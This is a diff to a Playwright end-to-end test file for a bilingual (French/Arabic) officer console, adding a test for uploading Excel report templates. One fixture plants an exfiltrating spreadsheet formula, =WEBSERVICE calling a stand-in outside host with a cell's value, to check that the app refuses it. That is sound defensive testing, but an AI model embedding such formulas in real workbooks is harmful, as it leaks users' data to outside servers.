@@ -9,15 +9,19 @@ import json
 import urllib.request
 from collections.abc import Iterator
 from dataclasses import dataclass
+from pathlib import Path
 from typing import Any
 from uuid import uuid4
 
 import pytest
 from axe_playwright_python.sync_playwright import Axe
+from openpyxl import load_workbook
 from PIL import Image
 from playwright.sync_api import Browser, Page, expect
 
 from tests.builders import registration, visit
+from tests.exports.templates import name as name_cells
+from tests.exports.templates import report_template
 from tests.live import LiveServer, free_port
 
 PASSWORD = "a long enough password"
@@ -80,6 +84,7 @@ class Console:
             "service": "/service",
             "certificates": "/certificates",
             "lists": "/lists",
+            "templates": "/templates",
             "account": "/account",
             "card": f"/women/{self.woman}/card",
             "cards": "/cards",
@@ -190,10 +195,10 @@ def check(page: Page, name: str) -> None:
 def test_every_page_is_accessible_and_fits(browser: Browser, console: Console, language: str, size: str) -> None:
     page, errors = open_desk(browser, console, language, size)
     expect(page.locator("html")).to_have_attribute("dir", "rtl" if language == "ar" else "ltr")
-    for name, path in console.pages().items():
+    for title, path in console.pages().items():
         page.goto(f"{console.server.url}{path}")
         page.evaluate("for (const closed of document.querySelectorAll('details')) closed.open = true")
-        check(page, name)
+        check(page, title)
     if size == "desk":  # the menu needs no scrolling
         assert page.evaluate("(side => side.scrollHeight <= side.clientHeight)(document.querySelector('.side'))")
     assert [error for error in errors if "404" not in error] == []
@@ -262,6 +267,39 @@ def test_an_officer_fills_a_form_edits_it_and_compares(browser: Browser, console
     expect(page.locator("tbody")).to_contain_text("Sidi Ghalem")
     check(page, "changes")
     assert errors == []
+    page.context.close()
+
+
+@pytest.mark.parametrize(("language", "size"), [("fr", "desk"), ("ar", "phone")])
+def test_an_officer_sends_a_template_and_gets_it_filled(
+    browser: Browser, console: Console, tmp_path: Path, language: str, size: str
+) -> None:
+    for file, formula in ((f"rapport-{language}", "=1+1"), ("hostile", '=WEBSERVICE("http://elsewhere.example/"&B3)')):
+        book = load_workbook(io.BytesIO(report_template()))
+        name_cells(book, "HIRFA_I6", "Rapport!$C$3")
+        book["Rapport"]["D1"] = formula
+        book.save(tmp_path / f"{file}.xlsx")
+    page, errors = open_desk(browser, console, language, size)
+    page.goto(f"{console.server.url}/templates")
+    page.set_input_files("#file", tmp_path / "hostile.xlsx")
+    page.locator("form[enctype] button").click()
+    expect(page.locator("main")).to_contain_text("WEBSERVICE")
+    expect(page.locator("main")).not_to_contain_text(f"rapport-{language}")
+    check(page, "refused template")
+    page.fill("#name", "")
+    page.set_input_files("#file", tmp_path / f"rapport-{language}.xlsx")
+    page.locator("form[enctype] button").click()
+    expect(page.locator("h1")).to_have_text(f"rapport-{language}")
+    expect(page.locator("main")).to_contain_text("HIRFA_I06")  # what HIRFA_I6 may mean
+    expect(page.locator("main")).to_contain_text("HIRFA_02_Par_commune")
+    check(page, "template")
+    page.locator("main a[href*='?template=']").click()
+    expect(page.locator("#template option:checked")).to_have_text(f"rapport-{language}")
+    chosen = page.locator("#template").input_value()
+    filled = page.request.get(f"{console.server.url}/v1/projects/1/workbook.xlsx?template={chosen}&language={language}")
+    sheet = load_workbook(io.BytesIO(filled.body()))["Rapport"]
+    assert (sheet["B3"].value, sheet["A7"].value, sheet["B8"].value) == (2, "Code ONS", "بئر الجير" if language == "ar" else "Bir El Djir")
+    assert [error for error in errors if "422" not in error] == []
     page.context.close()
 
 
